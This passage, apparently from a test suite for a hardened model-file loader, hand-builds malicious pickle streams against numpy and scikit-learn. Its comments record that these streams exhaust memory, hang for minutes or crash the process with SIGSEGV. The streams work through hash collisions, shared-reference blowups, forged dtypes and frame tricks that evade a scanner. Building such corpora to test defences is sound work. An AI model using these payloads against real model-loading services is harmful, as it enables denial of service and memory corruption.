        stream += b"h\x00" + text(f"n{i:05d}") + b"\x93" + POP
    inner_attack(corpus, atk, bytes(stream + NONE + STOP), control=None)
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    argv = ["audit", "--json", str(atk.path)]
    atk.extra = [("cli audit --json", "cli", {"argv": argv})]
    atk.codes = {"cli audit": {1}, "cli verify": {1}, "cli audit --json": {1}}
    atk.max_seconds = 10.0
    atk.max_peak = 512 * MIB
    atk.check = names_printed_at_most(4_000_000)


@attack("inner-long-global-names", 5, "10,000 globals of 2,000 characters")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each name within the length allowed, one memoized module under all of
    # them: 20 MB of names recorded and printed from 124 KB (round 99).
    stream = bytearray(PROTO5 + text("m" * 999) + b"\x94")
    for i in range(10_000):
        stream += b"h\x00" + text(f"{i:05d}".rjust(999, "n")) + b"\x93" + POP
    inner_attack(corpus, atk, bytes(stream + NONE + STOP), control=None)
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    atk.max_seconds = 10.0
    atk.max_peak = 512 * MIB
    atk.check = names_printed_at_most(4_000_000)


@attack("inner-violation-repeated", 5, "a million items set on a class of a long name")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each item set on a stub class is a violation, and its message quoted the
    # class's name of 2,000 characters: built anew 2 bytes of stream each, a
    # 4 MB stream kept the dry run past a minute (round 100).
    stream = bytearray(PROTO5 + text(" a" * 499) + text(" b" * 499) + b"\x93")
    stream += (MARK + NONE * 2_000 + b"u") * 1_000
    inner_attack(corpus, atk, bytes(stream + STOP), control=None)
    atk.entries = ("load", "audit", "cli audit")
    atk.max_seconds = 10.0


def memoized(value: str) -> bytes:
    return text(value) + b"\x94"


def dry_run_attack(corpus: Corpus, atk: Attack, stream: bytes) -> None:
    """An inner stream the scan or the dry run must refuse within seconds."""
    inner_attack(corpus, atk, stream, control=None)
    atk.raises = {"load": {"UntrustedGlobalError"}}
    atk.entries = ("load", "audit", "cli audit")
    atk.max_seconds = 10.0
    atk.max_peak = 512 * MIB


@attack("inner-shared-call-arguments", 5, "a million-item tuple passed to 1,000 calls")
def _(corpus: Corpus, atk: Attack) -> None:
    # A call copies the tuple it unpacks: a billion values copied, past 60 s
    # and 2.9 GB from 1 MB (round 102).
    stream = PROTO5 + memoized("sklearn.linear_model._base")
    stream += memoized("LinearRegression") + b"\x93\x94" + MARK + NONE * 1_000_000
    stream += b"t\x94" + b"h\x02h\x03R0" * 1_000 + NONE + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-shared-newobj-ex-arguments", 5, "a tuple passed to 1,000 NEWOBJ_EX")
def _(corpus: Corpus, atk: Attack) -> None:
    # The same through NEWOBJ_EX, which the count left out: 2.4 GB kept from
    # 311 KB, 36 s from 1 MB (round 104).
    stream = PROTO5 + memoized("sklearn.utils._bunch") + memoized("Bunch")
    stream += b"\x93\x94" + MARK + NONE * 1_000_000 + b"t\x94" + EMPTY_DICT + b"\x94"
    stream += EMPTY_LIST + MARK + b"h\x02h\x03h\x04\x92" * 1_000 + APPENDS + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-dtype-state-dag", 5, "a dtype state of 50 levels of shared tuples")
def _(corpus: Corpus, atk: Attack) -> None:
    # Walked once a reference: 2**50 values from 3.3 KB (round 102).
    stream = PROTO5 + memoized("numpy") + memoized("dtype") + b"\x93\x94"
    stream += memoized("f8") + b"\x89\x88\x87R\x94(K\x03" + memoized("<") + NONE
    for level in range(50):
        stream += b"\x94h" + bytes([6 + level]) + b"\x86"
    stream += b"NNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-memo-slack-each-put", 5, "200,000 PUTs, each 1,024 slots ahead")
def _(corpus: Corpus, atk: Attack) -> None:
    # The slack was each PUT's: 2.2 GB of memo from 1 MB (round 102).
    stream = bytearray(PROTO5 + NONE)
    for k in range(200_000):
        stream += b"r" + struct.pack("<I", 1025 * k + 1024)
    dry_run_attack(corpus, atk, bytes(stream + STOP))


@attack("inner-state-set-again", 5, "one 200,000-entry dict set 1,000 times as state")
def _(corpus: Corpus, atk: Attack) -> None:
    # Pickle sets an object's state once; set again and again, a model's
    # restore would copy the dict each time (round 102).
    entries = b"".join(b"J" + struct.pack("<i", i) + NONE for i in range(200_000))
    stream = PROTO5 + memoized("sklearn.linear_model._base")
    stream += memoized("LinearRegression") + b"\x93\x94)\x81\x94"
    stream += EMPTY_DICT + MARK + entries + b"u\x940" + b"h\x04b" * 1_000 + STOP
    dry_run_attack(corpus, atk, stream)


@attack(
    "inner-shared-newobj-ex-keywords", 5, "a dict of keywords given to 1,000 NEWOBJ_EX"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Each call copies its keywords, which the scan sizes as one value: one
    # memoized dict of 100,000 keys kept the dry run past 30 s (round 106).
    entries = b"".join(text(f"k{i}") + NONE for i in range(100_000))
    stream = PROTO5 + memoized("sklearn.utils._bunch") + memoized("Bunch")
    stream += b"\x93\x94)\x94" + EMPTY_DICT + b"\x94" + MARK + entries + b"u"
    stream += EMPTY_LIST + MARK + b"h\x02h\x03h\x04\x92" * 1_000 + APPENDS + STOP
    dry_run_attack(corpus, atk, stream)


def _shared_state_stream(module: str, name: str, build: bytes) -> bytes:
    """600 objects of ``module.name`` (memo 2), each given one memoized dict
    of 100,000 entries (memo 3) by ``build``."""
    entries = b"".join(text(f"k{i}") + NONE for i in range(100_000))
    stream = PROTO5 + memoized(module) + memoized(name) + b"\x93\x94"
    stream += EMPTY_DICT + b"\x94" + MARK + entries + b"u" + POP + EMPTY_LIST + MARK
    return stream + (b"h\x02)\x81" + build) * 600 + APPENDS + STOP


@attack("inner-shared-state-dict", 5, "one 100,000-entry dict, the state of 600 models")
def _(corpus: Corpus, atk: Attack) -> None:
    # An estimator's restore copies its state into its __dict__: 2.4 GB from
    # 1 MB, the objects kept (round 106).
    stream = _shared_state_stream(
        "sklearn.linear_model._base", "LinearRegression", b"h\x03b"
    )
    dry_run_attack(corpus, atk, stream)


@attack(
    "inner-shared-state-in-pairs",
    5,
    "one 100,000-entry dict in 600 (state, slots) pairs",
)
def _(corpus: Corpus, atk: Attack) -> None:
    # The same dict inside a fresh pair each time: an object without a
    # restore of its own copies it entry by entry (a loss object).
    stream = _shared_state_stream("sklearn._loss.loss", "AbsoluteError", b"h\x03N\x86b")
    dry_run_attack(corpus, atk, stream)


@attack("inner-remainder-columns-text", 5, "300 remainder lists over one 1 MB string")
def _(corpus: Corpus, atk: Attack) -> None:
    # scikit-learn 1.6's remainder columns copy their data into a list: a
    # character an item, 2.4 GB from one memoized string (round 106).
    stream = PROTO5 + memoized("sklearn.compose._column_transformer")
    stream += memoized("_RemainderColsList") + b"\x93\x94"
    stream += text("x" * 1_000_000) + b"\x94" + POP + EMPTY_LIST + MARK
    state = EMPTY_DICT + text("data") + b"h\x03" + SETITEM
    stream += (b"h\x02)\x81" + state + BUILD) * 300 + APPENDS + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-record-scalar-of-objects", 3, "a scalar of a dtype of object fields")
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy reads the pointers of such a scalar from memory it left as it
    # was: SIGSEGV from 3 KB (round 106).
    class Scalar:
        def __reduce__(self) -> tuple[Any, ...]:
            objects = np.dtype([("a", "O"), ("b", "O"), ("c", "O"), ("d", "O")])
            return (np._core.multiarray.scalar, (objects,))

    inner_attack(corpus, atk, pickle.dumps(Scalar(), protocol=5), control=None)
    atk.raises = {"load": {"UntrustedGlobalError"}}
    atk.entries = ("load", "audit", "cli verify")


@attack("inner-compressed-filler", 5, "40 MB of NONE, POP in a few KB of bz2")
def _(corpus: Corpus, atk: Attack) -> None:
    # The scan walks the inner stream an opcode at a time: 33 million from
    # 5 KB of bz2 took load 50 s (round 110). A compressed file runs as many
    # opcodes a compressed byte as its outer pickle may.
    stream = PROTO5 + b"N0" * 20_000_000 + NONE + STOP
    atk.path = corpus.folder(atk.name) / "model.joblib"
    joblib.dump(
        assemble(corpus.small, stream=stream, buffers=[]),
        atk.path,
        compress=("bz2", 9),
    )
    atk.raises = {"load": {"UntrustedGlobalError"}}
    atk.entries = ("load", "audit", "cli audit")
    atk.max_seconds = 10.0


_STATES: dict[int, tuple[Any, Any]] = {}


def _estimator_with_state(kind: type, state: Any) -> Any:
    """An estimator of ``kind`` that pickles with ``state``, the way every
    estimator pickles (``copyreg.__newobj__``, then BUILD)."""
    obj = kind.__new__(kind)
    _STATES[id(obj)] = (obj, state)  # kept: its id stays its own
    return obj


class _StatePickler(pickle.Pickler):
    def reducer_override(self, obj: Any) -> Any:
        import copyreg

        found = _STATES.get(id(obj))
        if found is None or found[0] is not obj:
            return NotImplemented
        return (copyreg.__newobj__, (type(obj),), found[1])


def _restore_attack(corpus: Corpus, atk: Attack, root: Any) -> None:
    """A payload whose restores would run library code on values the file
    chose, before the walk sees them: refused by the dry run."""
    out = io.BytesIO()
    _StatePickler(out, protocol=5).dump(root)
    dry_run_attack(corpus, atk, out.getvalue())


def _version_attack(corpus: Corpus, atk: Attack, version: Any) -> None:
    """An estimator whose state's ``_sklearn_version`` is ``version``, which
    scikit-learn's restore compares and formats before the walk."""
    state = {"_sklearn_version": version}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))


@attack("inner-items-of-no-bytes", 5, "a version of 2e9 items of no bytes")
def _(corpus: Corpus, atk: Attack) -> None:
    # Free in the file; scikit-learn's version check compares each: 2 GB
    # allocated from 3.9 KB (round 109).
    _version_attack(corpus, atk, _raw_array("S0", 2_000_000_000))


@attack("inner-version-not-text", 5, "a version that is a billion-item shared list")
def _(corpus: Corpus, atk: Attack) -> None:
    # Formatted into scikit-learn's version warning before the walk: a hang
    # from 10 KB (round 109).
    level = [0] * 1_000
    level = [level] * 1_000
    _version_attack(corpus, atk, [level] * 1_000)


@attack("inner-own-state-list", 5, "isotonic thresholds as a 300-million-item list")
def _(corpus: Corpus, atk: Attack) -> None:
    # Its restore converts them into an interpolator: 2.4 GB from 10 KB,
    # unseen by the dry run's sizing (round 109).
    from sklearn.isotonic import IsotonicRegression

    level = [0.0] * 1_000
    level = [level] * 1_000
    state = {"X_thresholds_": [level] * 300, "y_thresholds_": [level] * 300}
    _restore_attack(corpus, atk, _estimator_with_state(IsotonicRegression, state))


@attack("inner-slots-by-setattr", 5, "a kernel's theta set as a slot over a DAG")
def _(corpus: Corpus, atk: Attack) -> None:
    # Pickle sets slot state by setattr, through the theta property, which
    # walks the kernel's tree: 2**30 of one Sum(k, k) DAG (round 109).
    from sklearn.gaussian_process.kernels import RBF, Sum

    kernel: Any = RBF()
    for _ in range(30):
        kernel = Sum(kernel, kernel)
    top = _estimator_with_state(Sum, (dict(kernel.__dict__), {"theta": np.zeros(1)}))
    state = {"kernel": top}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))


def _masked(dtype: Any, shape: tuple[int, ...], fill: Any) -> Any:
    """A masked array as numpy pickles one, with its fill value chosen."""
    from tests._forge import Reduced

    size = int(np.prod(shape)) * np.dtype(dtype).itemsize
    state = (
        1,
        shape,
        np.dtype(dtype),
        False,
        bytes(size),
        bytes(int(np.prod(shape))),
        fill,
    )
    reconstruct = (np.ma.MaskedArray, np.ndarray, (0,), b"b")
    return Reduced((np.ma.core._mareconstruct, reconstruct, state))


def _raw_array(dtype: Any, count: int) -> Any:
    from numpy._core.multiarray import _reconstruct

    from tests._forge import Reduced

    state = (
        1,
        (count,),
        np.dtype(dtype),
        False,
        bytes(count * np.dtype(dtype).itemsize),
    )
    return Reduced((_reconstruct, (np.ndarray, (0,), b"b"), state))


@attack("inner-fill-value-of-shared-lists", 5, "a fill value of 2**25 shared items")
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy converts a fill value to the array's dtype, walking every item:
    # 15 s and 1.2 GB from 6 KB (round 112).
    fill: Any = 0.0
    for _ in range(25):
        fill = [fill, fill]
    masked = _masked("f8", (1,), fill)
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": masked})
    )


@attack("inner-items-of-800-mb", 5, "an empty masked array of 800 MB items")
def _(corpus: Corpus, atk: Attack) -> None:
    # Its fill value converted to one item: 1.7 GB from 6 KB (round 112).
    masked = _masked("U200000000", (0,), 0)
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": masked})
    )


@attack(
    "inner-predictor-nodes-widened", 5, "boosting nodes of 1-byte records, cast to 56"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # The predictor's restore casts its nodes to its records: 1.8 GB from
    # 155 KB compressed (round 112).
    from sklearn.ensemble._hist_gradient_boosting.common import PREDICTOR_RECORD_DTYPE
    from sklearn.ensemble._hist_gradient_boosting.predictor import TreePredictor

    names = PREDICTOR_RECORD_DTYPE.names or ()
    narrow = np.dtype(
        {"names": names, "formats": ["u1"] * len(names), "offsets": [0] * len(names)}
    )
    predictor = _estimator_with_state(
        TreePredictor, {"nodes": _raw_array(narrow, 10_000_000)}
    )
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": predictor})
    )
    atk.max_peak = 256 * MIB


@attack(
    "inner-predictor-nodes-widened-as-pairs",
    5,
    "boosting nodes of 1-byte records, a state of (name, value) pairs",
)
def _(corpus: Corpus, atk: Attack) -> None:
    # The same nodes, the state given as pairs: the predictor's restore
    # updates its __dict__ with anything, and the dry run judged only a
    # dict's values (556 MB more from 10 MB, found reading the source).
    from sklearn.ensemble._hist_gradient_boosting.common import PREDICTOR_RECORD_DTYPE
    from sklearn.ensemble._hist_gradient_boosting.predictor import TreePredictor

    names = PREDICTOR_RECORD_DTYPE.names or ()
    narrow = np.dtype(
        {"names": names, "formats": ["u1"] * len(names), "offsets": [0] * len(names)}
    )
    state = (("nodes", _raw_array(narrow, 10_000_000)), ("x", 1), ("y", 2))
    predictor = _estimator_with_state(TreePredictor, state)
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": predictor})
    )
    atk.max_peak = 256 * MIB


@attack(
    "inner-isotonic-thresholds-of-bytes",
    5,
    "isotonic thresholds of uint8, sorted and cast",
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Its restore builds an interpolator: copies, an argsort and casts of
    # 8 times the file (round 112).
    from sklearn.isotonic import IsotonicRegression

    state = {
        "X_thresholds_": _raw_array("u1", 10_000_000),
        "y_thresholds_": _raw_array("u1", 10_000_000),
    }
    _restore_attack(corpus, atk, _estimator_with_state(IsotonicRegression, state))
    atk.max_peak = 256 * MIB


@attack(
    "inner-tree-outputs-of-no-classes", 5, "8 trees of 20 million outputs, no values"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # A tree's constructor copies its classes an output at a time, before
    # its state; outputs of no classes make its values empty: 11 s and
    # 1.5 GB from 355 KB of zeros (round 115).
    from sklearn.tree._tree import NODE_DTYPE, Tree

    from tests._forge import Reduced

    outputs = 20_000_000
    classes = np.zeros(outputs, dtype=np.intp)
    state = {
        "max_depth": 0,
        "node_count": 1,
        "nodes": np.zeros(1, dtype=NODE_DTYPE),
        "values": np.zeros((1, outputs, 0)),
    }
    trees = [Reduced((Tree, (3, classes, outputs), dict(state))) for _ in range(8)]
    root = _estimator_with_state(LogisticRegression, {"x_": trees})
    out = io.BytesIO()
    _StatePickler(out, protocol=5).dump(root)
    atk.path = corpus.folder(atk.name) / "model.joblib"
    joblib.dump(
        assemble(corpus.small, stream=out.getvalue(), buffers=[]),
        atk.path,
        compress=("zlib", 1),
    )
    atk.raises = {"load": {"UntrustedGlobalError"}}
    atk.entries = ("load", "audit", "cli audit")
    atk.max_seconds = 10.0
    atk.max_peak = 512 * MIB


DUP = b"2"


def _collide(k: int) -> bytes:
    """LONG1 of ``k * (2**61 - 1)``: integers that share one hash."""
    data = (k * ((1 << 61) - 1)).to_bytes(16, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def _keys(count: int, each: Callable[[int], bytes]) -> bytes:
    """A dict of ``count`` keys of one hash, each written by ``each(k)``."""
    items = b"".join(each(k) for k in range(1, count + 1))
    return PROTO5 + EMPTY_DICT + MARK + items + b"u" + STOP


@attack("inner-dup-references", 5, "one numpy number listed 4 million times by DUP")
def _(corpus: Corpus, atk: Attack) -> None:
    # A reference of one byte, each judged by the walk: 9 s and 650 MB before
    # the refusal (round 136). No pickler writes DUP.
    model = LogisticRegression().fit(*corpus.iris)

    def listed(pickler: Any) -> None:
        pickler.write(EMPTY_LIST + MARK)
        pickler.save(np.float64(1.5))
        pickler.write(DUP * 4_000_000 + APPENDS + POP)

    _written_after_its_fit(corpus, atk, model, listed)


@attack("inner-dup-launders-big-keys", 5, "40,000 colliding keys, each behind DUP")
def _(corpus: Corpus, atk: Attack) -> None:
    # DUP pushed a fresh value to the scan, which forgot the integer was past
    # 64 bits: the dry run built a dict of 40,000 keys of one hash, 19 s
    # (round 118).
    dry_run_attack(corpus, atk, _keys(40_000, lambda k: _collide(k) + DUP + POP + NONE))


@attack("inner-dup-launders-nesting", 5, "a key nested 150,000 deep through DUP")
def _(corpus: Corpus, atk: Attack) -> None:
    # The same for a tuple's depth: hashing the key recursed in C past the
    # stack, SIGSEGV in load and audit (round 118).
    key = NONE + (TUPLE1 + DUP + POP) * 150_000
    stream = PROTO5 + EMPTY_DICT + key + NONE + SETITEM + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-dup-launders-arguments", 5, "a million-item tuple behind DUP, 300 calls")
def _(corpus: Corpus, atk: Attack) -> None:
    # ... and for a tuple's size: one memoized tuple unpacked by 300 calls,
    # 46 s and 2.4 GB from 1 MB (round 118).
    stream = PROTO5 + memoized("builtins") + memoized("slice") + b"\x93\x94"
    stream += MARK + NONE * 1_000_000
    stream += TUPLE + DUP + POP + b"\x94" + b"h\x02h\x03R0" * 300 + NONE + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-fill-value-an-array", 5, "a fill value of 300,000 items, cast to 4 KB")
def _(corpus: Corpus, atk: Attack) -> None:
    # The restore casts the fill value to the array's dtype, item by item:
    # 2.5 GB from 333 KB (round 118).
    masked = _masked("S4096", (0,), _raw_array("u1", 300_000))
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": masked})
    )


@attack("inner-records-of-objects", 5, "300,000 references made 4 KB records")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each item of an object array's list becomes an item of its dtype: one
    # memoized tuple under 300,000 records of an object and 4,088 bytes,
    # 1.5 GB from 633 KB (round 118).
    from numpy._core.multiarray import _reconstruct

    from tests._forge import Reduced

    dtype = np.dtype([("a", "O"), ("b", "S4088")])
    item = (None, b"")
    state = (1, (300_000,), dtype, False, [item] * 300_000)
    records = Reduced((_reconstruct, (np.ndarray, (0,), b"b"), state))
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": records})
    )


def _forged_dtype(description: str) -> Any:
    """``numpy.dtype(description)`` given a record's state."""
    from tests._forge import Reduced

    state = np.dtype([("a", "<i8")]).__reduce__()[2]
    return Reduced((np.dtype, (description, False, True), state))


@attack("inner-dtype-object-of-a-record", 5, "an object dtype given a record's state")
def _(corpus: Corpus, atk: Attack) -> None:
    # The restore keeps the description's kind: an object dtype that claims
    # no references, its arrays' raw bytes read as pointers (SIGSEGV at
    # predict, round 118).
    state = {"x_": _forged_dtype("O8")}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))


@attack("inner-dtype-datetime-of-a-record", 5, "a datetime dtype of a record's state")
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy's own restore of it crashed inside load (round 118).
    state = {"x_": _forged_dtype("M8")}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))


@attack("inner-build-launders-big-keys", 5, "40,000 colliding keys, each BUILD(None)")
def _(corpus: Corpus, atk: Attack) -> None:
    # BUILD leaves its object on the stack; the scan pushed a fresh value,
    # forgetting the integer was past 64 bits: past 60 s (round 119).
    stream = _keys(40_000, lambda k: _collide(k) + NONE + BUILD + NONE)
    dry_run_attack(corpus, atk, stream)


@attack("inner-build-launders-nesting", 5, "a key 300,000 deep, BUILD(None) each 500")
def _(corpus: Corpus, atk: Attack) -> None:
    # ... and the tuple's depth: SIGSEGV in load and audit (round 119).
    levels = b"".join(
        TUPLE1 + (NONE + BUILD if d % 500 == 499 else b"") for d in range(300_000)
    )
    stream = PROTO5 + EMPTY_DICT + NONE + levels + NONE + SETITEM + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-pop-of-a-mark-hides-keys", 5, "40,000 colliding keys, each MARK POP")
def _(corpus: Corpus, atk: Attack) -> None:
    # POP takes a MARK on top, not the value under it; the scan took the
    # value, so the keys were never judged keys: past 60 s (round 119).
    stream = _keys(40_000, lambda k: _collide(k) + MARK + POP + NONE)
    dry_run_attack(corpus, atk, stream)


@attack("inner-hex-text-keys", 5, "32,767 colliding keys as protocol 0 hex text")
def _(corpus: Corpus, atk: Attack) -> None:
    # INT text in base 0: "0x" and 19 hex digits, 76 bits in 21 characters,
    # taken for 64 at most: 31 s (round 119).
    stream = _keys(
        32_767, lambda k: b"I" + hex(k * ((1 << 61) - 1)).encode() + b"\n" + NONE
    )
    dry_run_attack(corpus, atk, stream)


@attack("inner-memo-gap-then-memoize", 5, "a memo gap, then 40,000 keys via MEMOIZE")
def _(corpus: Corpus, atk: Attack) -> None:
    # MEMOIZE stores at the unpickler's count of values, not after the last
    # index: after one gap it overwrote the PUT's slot, which the scan still
    # held plain, and GET gave back colliding keys: past 60 s (round 119).
    put, get = b"r" + struct.pack("<I", 2), b"j" + struct.pack("<I", 2)
    keys = _keys(40_000, lambda k: _collide(k) + b"\x94" + POP + get + NONE)
    dry_run_attack(corpus, atk, PROTO5 + NONE + put + POP + keys[len(PROTO5) :])


@attack("inner-read-only-view-after-binput", 5, "READONLY_BUFFER after BINPUT 0x97")
def _(corpus: Corpus, atk: Attack) -> None:
    # The byte before it was 0x97 (BINPUT's index), not the NEXT_BUFFER
    # opcode: each use a new view of one block, unseen as shared by the dry
    # run, a copy per tree: 2.2 GB from 1.2 MB (round 119).
    memo = (NONE + b"\x94" + POP) * 0x97  # slots 0 to 150
    block = b"\x96" + struct.pack("<Q", 1 << 20) + bytes(1 << 20) + b"q\x97"
    views = (b"h\x97\x98" + POP) * 100  # BINGET 151, READONLY_BUFFER
    stream = PROTO5 + memo + block + POP + views + NONE + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-masked-wide-records", 5, "3,000 masked arrays of one 4,096-field dtype")
def _(corpus: Corpus, atk: Attack) -> None:
    # Their restore makes the mask's dtype field by field, in Python, each
    # masked array again: 17 s and 1.7 GB from 262 KB (round 119).
    wide = np.dtype([(f"f{k}", "u1") for k in range(4_096)])
    arrays = [_masked(wide, (0,), None) for _ in range(3_000)]
    _restore_attack(
        corpus, atk, _estimator_with_state(LogisticRegression, {"x_": arrays})
    )


def _past_a_frame(hidden: bytes) -> bytes:
    """A frame of 3 bytes holding BINBYTES and half its length. The C
    unpickler drops the frame's rest when an argument runs past it and reads
    the length from after the frame (a few bytes, then ``hidden``); a scan
    reading on through the frame's end took 65,536 times that length of
    bytes, then STOP, and never read ``hidden``."""
    count = -(-(len(hidden) + 64) // 65_536)
    after = bytes([count, 0, 0, 0]) + b"a" * count + hidden
    pad = (count << 16) - (len(after) - 2)
    frame = b"\x95" + struct.pack("<Q", 3) + b"B\x00\x00"
    return PROTO5 + frame + after + bytes(pad) + STOP


@attack("inner-frame-hides-nesting", 5, "past a frame's end, a key 2,000,000 deep")
def _(corpus: Corpus, atk: Attack) -> None:
    # What only the unpickler read went unjudged: SIGSEGV in load and audit
    # (round 121).
    key = b"K\x01" + TUPLE1 * 2_000_000
    hidden = EMPTY_DICT + key + b"K\x01" + SETITEM + STOP
    dry_run_attack(corpus, atk, _past_a_frame(hidden))


@attack("inner-frame-hides-keys", 5, "past a frame's end, 60,000 colliding keys")
def _(corpus: Corpus, atk: Attack) -> None:
    # ... and keys of one hash: 46 s from 850 KB (round 121).
    hidden = _keys(60_000, lambda k: _collide(k) + b"K\x00")[len(PROTO5) :]
    dry_run_attack(corpus, atk, _past_a_frame(hidden))


@attack("inner-dtype-names-collide", 5, "a record dtype of 60,000 colliding names")
def _(corpus: Corpus, atk: Attack) -> None:
    # Its names were made a set before their type was judged: integers of
    # one hash, 23 s from 720 KB (round 121).
    names = MARK + b"".join(_collide(k) for k in range(1, 60_001)) + TUPLE
    fields = EMPTY_DICT
    state = MARK + b"K\x03" + text("|") + NONE + names + fields
    state += b"K\x08" + b"J\xff\xff\xff\xff" + b"K\x10" + TUPLE
    stream = PROTO5 + text("numpy") + text("dtype") + b"\x93" + text("V8")
    stream += FALSE + TRUE + b"\x87" + REDUCE + state + BUILD + STOP
    dry_run_attack(corpus, atk, stream)


@attack("inner-renamed-name-per-use", 5, "10,000 uses of a class scikit-learn renamed")
def _(corpus: Corpus, atk: Attack) -> None:
    # Resolving a renamed class read scikit-learn's version from its
    # metadata at each use, 0.3 ms: 5 times an honest load from 61 KB
    # (round 121).
    stream = PROTO5 + memoized("sklearn.compose._column_transformer")
    stream += memoized("_RemainderColsList")
    stream += (b"h\x00h\x01\x93" + POP) * 9_990 + NONE + STOP
    inner_attack(corpus, atk, stream, control=None)
    atk.raises = {"load": {"EnvelopeError"}}  # its root is no estimator
    atk.entries = ("load",)
    atk.max_seconds = 3.0
    atk.max_peak = 512 * MIB


@attack(
    "inner-dtype-nested-records",
    5,
    "records of two fields, each the level below, 28 deep",
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Each level pickled once, walked again at every reference: 2**28 fields
    # from 5.4 KB, past 60 s in the walk (round 122).
    nested = np.dtype("u1")
    for _ in range(28):
        nested = np.dtype(
            {"names": ["a", "b"], "formats": [nested] * 2, "offsets": [0, 0]}
        )
    state = {"x_": nested}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))


@attack(
    "inner-dtypes-over-a-shared-record", 5, "20,000 dtypes of one 4,000-field record"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Each dtype's layout walked its field's 4,000 fields again: 40,000 of
    # them in 38 KB of compressed file, past 60 s (round 123).
    shared = np.dtype([(f"f{i}", "f8") for i in range(4_000)])
    dtypes = [
        np.dtype({"names": ["a"], "formats": [shared], "offsets": [0]})
        for _ in range(20_000)
    ]
    state = {"x_": dtypes}
    _restore_attack(corpus, atk, _estimator_with_state(LogisticRegression, state))
    atk.raises = {}  # what matters is the time the checks take


@attack("inner-dtype-fields-changed", 5, "a node dtype's field moved after its check")
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy keeps the fields dict a dtype's state gives it: a SETITEM on the
    # memoized dict after the dtype was judged moved a tree's thresholds 2 GB
    # past its nodes, which the tree's restore then cast (SIGSEGV, round 123).
    X, y = corpus.iris
    stream = pickle.dumps(DecisionTreeClassifier(max_depth=3).fit(X, y), protocol=5)
    ops = list(pickletools.genops(stream))
    ends = [p for _, _, p in ops[1:]] + [len(stream)]
    stream = b"".join(  # unframed, to take more opcodes
        stream[p:end]
        for (op, _, p), end in zip(ops, ends, strict=True)
        if op.name != "FRAME"
    )
    ops = list(pickletools.genops(stream))
    memo: dict[int, int] = {}  # position of a value -> its memo index
    for k, (op, _, _) in enumerate(ops):
        if op.name == "MEMOIZE":
            memo[ops[k - 1][2]] = len(memo)
    texts = [
        (k, arg) for k, (op, arg, _) in enumerate(ops) if op.name.endswith("UNICODE")
    ]
    start = next(k for k, arg in texts if arg == "left_child")
    fields = next(memo[p] for op, _, p in ops[start:] if op.name == "EMPTY_DICT")
    start = next(k for k, arg in texts if arg == "f8")
    f8 = next(memo[p] for op, _, p in ops[start:] if op.name == "REDUCE")
    start = next(k for k, arg in texts if arg == "values")
    build = next(p for op, _, p in ops[start:] if op.name == "BUILD")  # the tree's
    moved = b"j" + struct.pack("<I", fields) + text("threshold")
    moved += b"j" + struct.pack("<I", f8) + b"J" + struct.pack("<i", 2_147_483_000)
    moved += b"\x86" + SETITEM + POP
    inner_attack(corpus, atk, stream[:build] + moved + stream[build:], control="crash")


class _Dropped:
    """A value whose pickle first writes ``write(pickler)``'s opcodes (which
    leave the stack as they found it), then None."""

    def __init__(self, write: Callable[[Any], None]) -> None:
        self.write = write


class _TreeStatePickler(pickle._Pickler):
    """The pure-Python pickler, so a value can write opcodes of its own
    with the memo at hand; every tree in ``states`` pickled with that state."""

    def __init__(self, file: Any, states: dict[int, Any]) -> None:
        super().__init__(file, protocol=5)
        self.states = states

    def reducer_override(self, obj: Any) -> Any:
        if id(obj) not in self.states:
            return NotImplemented
        function, args, _ = obj.__reduce__()
        return function, args, self.states[id(obj)]

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if type(obj) is _Written:
            obj.write(self)
            return
        if type(obj) is _Dropped:
            obj.write(self)
            obj = None
        super().save(obj, save_persistent_id)


def _trees_over_one_state(count: int) -> tuple[Any, list[Any], list[dict[str, Any]]]:
    """A fitted tree model, ``count`` trees, and a state for each that holds
    the model's own nodes and values (each tree's dict its own)."""
    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(3_000, 5)), rng.integers(0, 3, 3_000)
    model = DecisionTreeClassifier(random_state=0).fit(X, y)
    state = model.tree_.__getstate__()
    trees = [copy.copy(model.tree_) for _ in range(count)]
    return model, trees, [dict(state) for _ in trees]


def _written_after_its_fit(
    corpus: Corpus,
    atk: Attack,
    model: Any,
    write: Callable[[Any], None],
    trees: tuple[Any, ...] | list[Any] = (),
    states: tuple[Any, ...] | list[dict[str, Any]] = (),
) -> None:
    """``model`` pickled (each of ``trees`` over its state of ``states``)
    and, after every fitted part, ``write``'s opcodes (as its
